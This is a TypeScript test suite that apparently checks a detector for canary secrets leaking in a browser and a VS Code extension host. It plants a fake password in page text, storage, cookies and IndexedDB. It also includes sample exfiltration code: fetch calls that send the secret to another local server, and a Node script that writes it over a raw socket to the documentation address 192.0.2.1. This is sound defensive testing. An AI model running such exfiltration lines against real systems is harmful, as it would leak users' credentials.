import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import { readFile } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import path from "node:path";
import { pathToFileURL } from "node:url";
import { promisify } from "node:util";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { hitsInBrowser, hitsOnPage, watchBrowser, type BrowserWatch } from "../support/browserCanaries";
import { canaryPassword, hitsIn, hitsInFolder, type Hit } from "../support/canaries";
import { installVsCode } from "../vscodeServer/install";
import { scratchFolder } from "../vscodeServer/scratchFolder";
import { launchChromium } from "../vscodeServer/workbench";

const secret = canaryPassword.replaceAll(/\W/g, "");

describe("the search for secrets in a browser", () => {
  let server: Server;
  let elsewhere: Server;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let watch: BrowserWatch;

  before(async () => {
    [server, elsewhere] = await Promise.all([blankPages(), blankPages()]);
    browser = await launchChromium();
  });
  after(async () => {
    await browser.close();
    server.close();
    elsewhere.close();
  });
  beforeEach(async () => {
    context = await browser.newContext();
    watch = watchBrowser(context, originOf(server));
    page = await context.newPage();
    await page.goto(originOf(server));
  });
  afterEach(() => context.close());

  async function plant(script: string): Promise<void> {
    await page.evaluate(`(async () => { const secret = ${JSON.stringify(secret)}; ${script} })()`);
  }

  function placesOf(hits: readonly Hit[]): string[] {
    return [...new Set(hits.map(({ place }) => place))];
  }

  it("finds none where there is none", async () => {
    assert.deepEqual([...(await hitsInBrowser(page)), ...watch.hits], []);
  });

  const shown: readonly (readonly [title: string, script: string])[] = [
    ["a text", "document.body.append(secret);"],
    ["the page's title", "document.title = secret;"],
    ["an attribute", "document.body.setAttribute('aria-label', encodeURIComponent(secret));"],
    ["a box", "document.body.innerHTML = '<input>'; document.querySelector('input').value = secret;"],
    [
      "a text box",
      "document.body.innerHTML = '<textarea></textarea>'; document.querySelector('textarea').value = secret;",
    ],
  ];
  for (const [title, script] of shown) {
    it(`finds what is in ${title}`, async () => {
      await plant(script);
      assert.deepEqual(placesOf(await hitsOnPage(page)), ["the page"]);
      assert.deepEqual(placesOf(await hitsInBrowser(page)), ["the page"]);
    });
  }

  it("lets a box hold what it hides", async () => {
    await plant("document.body.innerHTML = '<input type=password>'; document.querySelector('input').value = secret;");
    assert.deepEqual(await hitsInBrowser(page), []);
  });

  const open = `
    const database = await new Promise((resolve) => {
      const request = indexedDB.open("state", 1);
      request.onupgradeneeded = () => request.result.createObjectStore("items");
      request.onsuccess = () => resolve(request.result);
    });
    const transaction = database.transaction("items", "readwrite");
    const items = transaction.objectStore("items");
    const done = new Promise((resolve) => (transaction.oncomplete = resolve));`;
  const stored: readonly (readonly [place: string, script: string])[] = [
    ["the local storage", "localStorage.setItem('a', JSON.stringify({ secret }));"],
    ["the local storage", "localStorage.setItem(secret, '');"],
    ["the session storage", "sessionStorage.setItem('a', btoa('x' + secret));"],
    ["the cookies", "document.cookie = 'a=' + secret;"],
    ["the database state, items", `${open} items.put(secret, 'a'); await done;`],
    ["the database state, items", `${open} items.put({ a: [secret] }, 'a'); await done;`],
    ["the database state, items", `${open} items.put('', secret); await done;`],
    ["the database state, items", `${open} items.put(new TextEncoder().encode(secret), 'a'); await done;`],
    ["the database state, items", `${open} items.put(new TextEncoder().encode(secret).buffer, 'a'); await done;`],
  ];
  for (const [index, [place, script]] of stored.entries()) {
    it(`finds what is in ${place}, case ${String(index + 1)}`, async () => {
      await plant(script);
      assert.deepEqual(placesOf(await hitsInBrowser(page)), [place]);
    });
  }

  it("finds what the page writes to the console", async () => {
    const written = page.waitForEvent("console");
    await plant("console.debug('a', secret);");
    await written;
    assert.deepEqual(placesOf(watch.hits), ["the browser's console"]);
  });

  it("finds what it sends to another server: in the address, a header or the body", async () => {
    const url = originOf(elsewhere);
    await plant(`await fetch("${url}/?a=" + secret, { mode: "no-cors" });`);
    assert.ok(placesOf(watch.hits).includes("the address of a request of the page"));
    await plant(`await fetch("${url}/b", { mode: "no-cors", method: "POST", body: secret });`);
    assert.ok(placesOf(watch.hits).includes(`a request to ${new URL(url).host}`));
  });

  it("lets it send to its own server what that is for, but not in the address", async () => {
    await plant("await fetch('/a', { method: 'POST', body: secret });");
    assert.deepEqual(watch.hits, []);
    await plant("await fetch('/?a=' + secret);");
    assert.deepEqual(placesOf(watch.hits), ["the address of a request of the page"]);
  });
});

describe("the search for secrets in what an extension host sends", () => {
  it("finds what goes to another machine, whether that answers or not, and nothing else", async () => {
    const { node } = await installVsCode("newest");
    const scratch = await scratchFolder();
    const here = await blankPages();
    try {
      const script = `
        const [here, secret] = process.argv.slice(1);
        fetch(here, { headers: { secret } })
          .then(() => fetch("http://192.0.2.1/", { headers: { a: "there" }, signal: AbortSignal.timeout(10) }).catch(() => 0))
          .then(() => { require("net").connect(9, "192.0.2.1").write("sent " + process.argv[3]); })
          .then(() => process.exit());`;
      const extras = pathToFileURL(path.join(__dirname, "../vscodeServer/serverExtras.mts")).href;
      const run = (other: string) =>
        promisify(execFile)(node, ["--import", extras, "--eval", script, originOf(here), secret, other], {
          env: { ...process.env, TMPDIR: scratch.path },
        });
      await run("nothing");
      assert.match(await readFile(path.join(scratch.path, "sentElsewhere"), "utf8"), /192\.0\.2\.1[^]*sent nothing/);
      assert.deepEqual(await hitsInFolder(scratch.path), []);
      await run(secret);
      assert.deepEqual(await hitsInFolder(scratch.path), hitsIn("sentElsewhere", secret));
    } finally {
      here.close();
      await scratch.remove();
    }
  });
});

async function blankPages(): Promise<Server> {
  const server = createServer((_, response) => {
    response.setHeader("Content-Type", "text/html").end("<!doctype html><title>Blank</title>");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return server;
}

function originOf(server: Server): string {
  return `http://127.0.0.1:${String((server.address() as AddressInfo).port)}`;
}
